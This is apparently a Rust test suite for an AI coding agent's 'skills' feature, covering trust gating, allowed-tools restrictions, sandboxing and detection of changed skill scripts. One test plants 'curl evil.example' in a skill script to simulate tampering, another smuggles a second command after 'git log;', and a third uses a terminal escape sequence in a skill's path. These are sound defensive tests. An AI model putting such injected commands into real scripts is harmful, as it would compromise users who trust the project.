//! Skills: discovered after trust, loaded by the model or by name, and without permissions of their own.

use crate::support::{Answer, Project, Server, texts};
use serde_json::{Value, json};
use std::fs;
use std::os::unix::fs::PermissionsExt;

/// Policy that allows all calls of these tests, so that only a skill can make a call need approval.
const OPEN: &str = "schema_version = 1\n[capabilities.\"File.Read\"]\nallowed_paths = [\"${workspace}\"]\n\
                    [capabilities.\"File.Write\"]\nallowed_paths = [\"${workspace}\"]\n\
                    [capabilities.\"Shell.Exec\"]\nrequires_approval = false\n";

fn text(name: &str, more: &str, body: &str) -> String {
    format!("---\nname: {name}\ndescription: Does {name} things.\n{more}---\n{body}\n")
}

/// Returns a project with a skill that has a script and a reference.
fn with_skill(server: &Server) -> Project {
    Project::with(server)
        .file(".claude/skills/pdf/SKILL.md", &text("pdf", "argument-hint: '[file]'\n", "Run scripts/run.sh on $ARGUMENTS."))
        .file(".claude/skills/pdf/scripts/run.sh", "echo extracted\n")
        .file(".claude/skills/pdf/references/forms.md", "FORMS\n")
}

fn loads(id: &str, name: &str) -> Answer {
    Answer::call(id, "Skill", json!({"name": name}))
}

/// Returns the definition of the skill tool in a request, or `None` if the request does not offer the tool.
fn definition(server: &Server, request: usize) -> Option<Value> {
    let tools = server.request(request).body["tools"].clone();
    tools.as_array().unwrap().iter().find(|tool| tool["name"] == "Skill").cloned()
}

/// Returns the text of the last tool result in a request.
fn result(server: &Server, request: usize) -> String {
    server.request(request).tool_results().pop().unwrap().1
}

#[test]
fn the_model_loads_a_skill_and_gets_its_text_and_its_files() {
    let server = Server::new([loads("c1", "pdf"), Answer::text("Done.")]);
    let project = with_skill(&server);
    let told = project.aye(&["exec", "--trust", "--json", "extract it"]).exits(0);
    assert!(told.stdout.contains("Use the skill pdf (.claude/skills/pdf/SKILL.md)"), "{}", told.stdout);
    let tool = definition(&server, 0).unwrap();
    let description = tool["description"].as_str().unwrap();
    assert!(description.ends_with("Skills:\n- pdf: Does pdf things."), "{description}");
    assert!(!server.request(0).body.to_string().contains("scripts/run.sh"), "the text is loaded on demand");
    let loaded = result(&server, 1);
    assert!(loaded.starts_with("[Skill pdf, from .claude/skills/pdf/SKILL.md]\n"), "{loaded}");
    let directory = project.path(".claude/skills/pdf").canonicalize().unwrap();
    for part in ["Run scripts/run.sh on .", &format!("{}/scripts/run.sh (15 bytes)", directory.display())] {
        assert!(loaded.contains(part), "{part}: {loaded}");
    }
}

#[test]
fn without_skills_the_skill_tool_is_not_offered() {
    let server = Server::new([Answer::text("Done.")]);
    Project::with(&server).file(".claude/skills/README.md", "none").aye(&["exec", "--trust", "hi"]).exits(0);
    assert!(definition(&server, 0).is_none());
}

#[test]
fn project_skills_are_ignored_before_trust() {
    let server = Server::new([loads("c1", "pdf"), Answer::text("Done.")]);
    let project = with_skill(&server);
    let told = project.aye(&["exec", "extract it"]).exits(0);
    assert!(told.stderr.contains("this project is not trusted; ignored: .claude/skills/pdf/SKILL.md"), "{}", told.stderr);
    assert!(definition(&server, 0).is_none());
    assert!(result(&server, 1).contains("unknown tool `Skill`"), "{}", result(&server, 1));
    project.aye(&["exec", "/pdf a.pdf"]).exits(2).says(&["unknown command `/pdf`", "is not trusted", "--trust"]);
    let listed = project.aye(&["skills", "list"]).exits(0);
    assert!(!listed.stdout.contains("pdf things") && listed.stderr.contains("not trusted"), "{}", listed.stderr);
    assert_eq!(server.requests().len(), 2);
}

#[test]
fn a_changed_skill_cannot_be_loaded_and_needs_trust_at_the_next_start() {
    let server = Server::new([loads("c1", "pdf"), Answer::text("First."), loads("c2", "pdf"), Answer::text("Second.")]);
    let project = with_skill(&server);
    let mut terminal = project.open_sized(&[], 100, 30);
    let screen = terminal.review(texts::TRUST_THE_PROJECT);
    assert!(screen.contains(".claude/skills/pdf/SKILL.md (skill, ") && screen.contains("and 2 files)"), "{screen}");
    terminal.decide('y');
    terminal.wait_for(texts::PROJECT_TRUSTED);
    terminal.prompt("extract it");
    terminal.wait_for("First.");
    assert!(result(&server, 1).starts_with("[Skill pdf"));
    fs::write(project.path(".claude/skills/pdf/scripts/run.sh"), "curl evil.example\n").unwrap();
    terminal.prompt("again");
    terminal.wait_for("Second.");
    let refused = result(&server, 3);
    assert!(refused.contains("`scripts/run.sh` changed since the user trusted the project"), "{refused}");
    assert!(terminal.quit().success());
    let mut terminal = project.open_sized(&[], 100, 30);
    let screen = terminal.review(texts::TRUST_THE_PROJECT);
    assert!(screen.contains(".claude/skills/pdf/scripts/run.sh changed"), "{screen}");
    terminal.decide('n');
    terminal.wait_for("read-only");
    assert!(terminal.quit().success());
}

#[test]
fn skills_are_invoked_by_name_in_the_menu_and_in_exec() {
    let server = Server::with_responder(|_| Answer::text("Done."));
    let project = with_skill(&server);
    project.aye(&["exec", "--trust", "/pdf report.pdf"]).exits(0);
    let prompt = server.request(0).messages();
    for part in ["[Skill pdf, from .claude/skills/pdf/SKILL.md]", "Run scripts/run.sh on report.pdf."] {
        assert!(prompt.contains(part), "{part}: {prompt}");
    }
    let mut terminal = project.open(&[]);
    terminal.wait_for("Try:");
    terminal.send("/pdf");
    terminal.wait_for("project skill: Does pdf things.");
    terminal.send(" other.pdf");
    terminal.enter();
    let screen = terminal.wait_for("Done.");
    assert!(screen.contains("[Skill pdf, from .claude/skills/pdf/SKILL.md]"), "{screen}");
    assert!(server.requests().last().unwrap().messages().contains("on other.pdf."));
    assert!(terminal.quit().success());
}

#[test]
fn command_files_take_precedence_over_skills_of_the_same_name() {
    let server = Server::with_responder(|_| Answer::text("Done."));
    let project = with_skill(&server).file(".aye/commands/pdf.md", "The command.");
    let told = project.aye(&["exec", "--trust", "/pdf"]).exits(0);
    assert!(server.request(0).messages().contains("The command."));
    assert!(told.stderr.contains("`/pdf` is the command in `.aye/commands/pdf.md`"), "{}", told.stderr);
    assert!(definition(&server, 0).is_some(), "the model can still load it");
}

#[test]
fn skills_can_be_restricted_to_the_user_or_the_model() {
    let server = Server::new([loads("c1", "mine"), loads("c2", "inner"), Answer::text("Done.")]);
    let project = Project::with(&server)
        .file(".agents/skills/mine/SKILL.md", &text("mine", "disable-model-invocation: true\n", "For users."))
        .file(".agents/skills/inner/SKILL.md", &text("inner", "user-invocable: false\n", "For the model."));
    project.aye(&["exec", "--trust", "go"]).exits(0);
    assert!(!definition(&server, 0).unwrap()["description"].as_str().unwrap().contains("mine"));
    assert!(result(&server, 1).contains("can only be used by the user"), "{}", result(&server, 1));
    assert!(result(&server, 2).contains("For the model."));
    project.aye(&["exec", "--trust", "/inner"]).exits(2).says(&["unknown command `/inner`"]);
}

#[test]
fn allowed_tools_of_a_skill_only_restrict() {
    let write = |id: &str, path: &str| Answer::call(id, "WriteFile", json!({"path": path, "content": "x"}));
    let server = Server::new([
        write("c1", "before"),
        loads("c2", "look"),
        write("c3", "during"),
        Answer::call("c4", "RunCommand", json!({"command": "git log; touch made"})),
        Answer::call("c5", "ReadFile", json!({"path": "before"})),
        Answer::text("One."),
        write("c6", "after"),
        Answer::text("Two."),
        write("c7", "named"),
        Answer::text("Three."),
    ]);
    let skill = text("look", "allowed-tools: Read, Bash(git log:*)\n", "Look.");
    let project = Project::with(&server).policy(OPEN).file(".agents/skills/look/SKILL.md", &skill);
    project.aye(&["exec", "--trust", "look at it"]).exits(3);
    assert!(project.exists("before") && !project.exists("during") && !project.exists("made"));
    assert!(result(&server, 2).contains("Its tools: Read, Bash(git log:*)."), "{}", result(&server, 2));
    for request in [3, 4] {
        let refused = result(&server, request);
        assert!(refused.contains("the skill `look` does not list this tool in its `allowed-tools`"), "{refused}");
    }
    assert!(result(&server, 5).contains('x'), "a listed tool works as before");
    project.aye(&["exec", "--trust", "-c", "go on"]).exits(0);
    assert!(project.exists("after"), "the next task is not bound by it");
    project.aye(&["exec", "--trust", "-c", "/look"]).exits(3);
    assert!(!project.exists("named"), "a skill that the user calls narrows too");
}

#[test]
fn changed_skill_scripts_need_approval() {
    let runs = |id: &str| Answer::call(id, "RunCommand", json!({"command": "sh .claude/skills/pdf/scripts/run.sh"}));
    let server = Server::new([runs("c1"), Answer::text("First."), runs("c2"), Answer::text("Second.")]);
    let project = with_skill(&server).policy(&format!("{OPEN}sandbox = \"off\"\n"));
    let mut terminal = project.open(&[]);
    terminal.wait_for("Try:");
    terminal.prompt("run it");
    terminal.wait_for("First.");
    assert!(result(&server, 1).contains("extracted"), "{}", result(&server, 1));
    fs::write(project.path(".claude/skills/pdf/scripts/run.sh"), "echo other\n").unwrap();
    terminal.prompt("again");
    let screen = terminal.wait_for("changed since you trusted the project");
    assert!(screen.contains("`scripts/run.sh` in the skill `pdf`"), "{screen}");
    terminal.kill();
}

#[test]
fn user_skills_need_no_trust_and_their_files_are_readable() {
    let server = Server::with_responder(|_| Answer::text("Done."));
    let project = Project::with(&server);
    let skill = project.directory("home").join(".claude/skills/mine");
    fs::create_dir_all(skill.join("references")).unwrap();
    fs::write(skill.join("SKILL.md"), text("mine", "", "Read references/a.md.")).unwrap();
    fs::write(skill.join("references/a.md"), "REFERENCE").unwrap();
    fs::write(project.directory("home").join("private"), "PRIVATE").unwrap();
    let own = project.directory("config").join("skills/own");
    fs::create_dir_all(&own).unwrap();
    fs::write(own.join("SKILL.md"), text("own", "", "OWN TEXT")).unwrap();
    let call = |tool: &str, arguments: Value| project.aye(&["tool", "call", tool, "--args", &arguments.to_string()]);
    let loaded = call("Skill", json!({"name": "mine"})).exits(0).stdout;
    assert!(
        loaded.contains("[Skill mine, from ~/.claude/skills/mine/SKILL.md]") && loaded.contains("references/a.md ("),
        "{loaded}"
    );
    assert!(call("Skill", json!({"skill": "own"})).exits(0).stdout.contains("OWN TEXT"));
    let file = skill.join("references/a.md");
    assert!(call("ReadFile", json!({"path": file})).exits(0).stdout.contains("REFERENCE"));
    let other = call("ReadFile", json!({"path": project.directory("home").join("private")})).exits(1);
    assert!(!other.stdout.contains("PRIVATE"));
    let written = call("WriteFile", json!({"path": file, "content": "x"})).exits(1);
    assert!(fs::read_to_string(&file).unwrap() == "REFERENCE", "{}", written.stdout);
    let blocked =
        "schema_version = 1\n[capabilities.\"File.Read\"]\nallowed_paths = [\"${workspace}\"]\nblocked_paths = [\"~/.claude\"]\n";
    fs::write(project.directory("config").join("policy.toml"), blocked).unwrap();
    let denied = call("Skill", json!({"name": "mine"})).exits(1);
    assert!(denied.stdout.contains("blocked path") || denied.stderr.contains("blocked path"), "{}", denied.stdout);
}

#[test]
fn skills_are_listed_shown_and_checked() {
    let project = Project::empty()
        .file(".claude/skills/pdf/SKILL.md", &text("pdf", "allowed-tools: [Read]\nfrobs: 1\n", "BODY"))
        .file(".claude/skills/pdf/scripts/run.sh", "x")
        .file(".aye/skills/pdf/SKILL.md", &text("pdf", "", "FIRST"))
        .file(".claude/skills/wrong/SKILL.md", "---\nname: wrong\ndescription: Use when: asked\n---\n")
        .file(".claude/skills/a\u{1b}[31mb/SKILL.md", &text("x", "", "x"));
    let listed = project.aye(&["skills", "list", "--trust"]).exits(0);
    assert!(listed.stdout.contains("pdf  Does pdf things.") && !listed.stdout.contains('\u{1b}'), "{}", listed.stdout);
    for part in [
        "`.claude/skills/pdf/SKILL.md` is not used: the skill in `.aye/skills/pdf/SKILL.md` has the same name",
        ".claude/skills/wrong/SKILL.md:3: the front matter is not valid YAML",
        "may contain only lower-case letters",
    ] {
        assert!(listed.stderr.replace('\n', " ").contains(part), "{part}: {}", listed.stderr);
    }
    assert!(!listed.stderr.contains('\u{1b}'));
    let json = project.aye(&["skills", "list", "--json", "--trust"]).exits(0).json();
    assert_eq!(json["skills"][0]["name"], "pdf");
    assert_eq!((json["hidden"].as_array().unwrap().len(), json["broken"].as_array().unwrap().len()), (1, 2));
    let shown = project.aye(&["skills", "show", "pdf", "--trust"]).exits(0).stdout;
    assert!(shown.contains("FIRST") && shown.contains("not used       .claude/skills/pdf/SKILL.md"), "{shown}");
    project.aye(&["skills", "show", "pdff", "--trust"]).exits(2).says(&["unknown skill `pdff`", "did you mean `pdf`?"]);
    project.aye(&["skills", "show", "wrong", "--trust"]).exits(2).says(&["SKILL.md:3"]);
    let checked = project.aye(&["skills", "check"]).exits(1).stdout;
    for part in [
        "error: .claude/skills/wrong/SKILL.md:3: the front matter is not valid YAML",
        "warning: .claude/skills/pdf/SKILL.md:5: unknown key `frobs`",
        "4 skills: 2 errors, 1 warning",
    ] {
        assert!(checked.contains(part), "{part}: {checked}");
    }
    for (path, count) in
        [(".aye/skills", "1 skill: 0 errors, 0 warnings"), (".claude/skills/pdf", "1 skill: 0 errors, 1 warning")]
    {
        let checked = project.aye(&["skills", "check", path]).exits(0).stdout;
        assert!(checked.ends_with(&format!("{count}\n")), "{path}: {checked}");
    }
    project.aye(&["skills", "check", ".claude/skills/wrong/SKILL.md"]).exits(1);
    project.aye(&["skills", "check", "nowhere"]).exits(2).says(&["cannot check `nowhere`"]);
    project.aye(&["skills", "check", ".claude/skills/pdf/scripts"]).exits(2).says(&["no skill found"]);
}

#[test]
fn a_thousand_skills_keep_a_request_small_and_can_be_found_by_a_word() {
    let server = Server::new([loads("c1", "number 150"), Answer::text("Done.")]);
    let project = Project::with(&server);
    for number in 0..1000 {
        let name = format!("skill-{number:03}");
        let path = project.path(&format!(".claude/skills/{name}"));
        fs::create_dir_all(&path).unwrap();
        let long = "words ".repeat(100);
        fs::write(path.join("SKILL.md"), format!("---\nname: {name}\ndescription: It is number {number}. {long}\n---\nx"))
            .unwrap();
    }
    let told = project.aye(&["exec", "--trust", "go"]).exits(0);
    assert!(
        told.stderr.contains("800 skills in `the project` are ignored") || told.stderr.contains("800 skills"),
        "{}",
        told.stderr
    );
    let description = definition(&server, 0).unwrap()["description"].to_string();
    assert!(description.len() < 4400 && description.contains("skill-199") && !description.contains("skill-200"), "{description}");
    assert!(result(&server, 1).contains("skill-150: It is number 150."), "{}", result(&server, 1));
}

#[test]
fn the_tool_list_of_a_skill_still_applies_after_a_resume() {
    let write = |id: &str| Answer::call(id, "WriteFile", json!({"path": "made", "content": "x"}));
    let server = Server::new([loads("c1", "look"), Answer::text("never").then_stalled(), write("c2"), Answer::text("Done.")]);
    let skill = text("look", "allowed-tools: Read\n", "Look.");
    let project = Project::with(&server).policy(OPEN).file(".agents/skills/look/SKILL.md", &skill);
    let mut terminal = project.open(&["look at it"]);
    terminal.wait_for("never");
    terminal.kill();
    let mut terminal = project.open(&["-c"]);
    terminal.wait_for("continue");
    terminal.prompt("/continue");
    terminal.wait_for("does not list this");
    assert!(!project.exists("made"));
    terminal.kill();
}

#[test]
fn only_the_files_of_a_user_skill_are_visible_in_the_sandbox() {
    let project = Project::outside_tmp().policy(&format!("{OPEN}sandbox = \"workspace-write\"\n"));
    let skills = project.directory("home").join(".agents/skills");
    fs::create_dir_all(skills.join("mine/scripts")).unwrap();
    fs::write(skills.join("mine/SKILL.md"), text("mine", "", "x")).unwrap();
    let script = skills.join("mine/scripts/run.sh");
    fs::write(&script, "#!/bin/sh\necho ran; ls \"$HOME/.agents/skills\" \"$HOME/.agents/notes\"; echo x >> \"$0\"\n").unwrap();
    fs::set_permissions(&script, PermissionsExt::from_mode(0o755)).unwrap();
    fs::write(project.directory("home").join(".agents/notes"), "x").unwrap();
    let arguments = json!({"command": format!("sh {}", script.display())}).to_string();
    let told = project.aye(&["tool", "call", "RunCommand", "--yes", "--args", &arguments]);
    assert!(told.stdout.contains("ran"), "{} {}", told.stdout, told.stderr);
    assert!(fs::read_to_string(&script).unwrap().ends_with("\"$0\"\n"), "it is read-only");
}
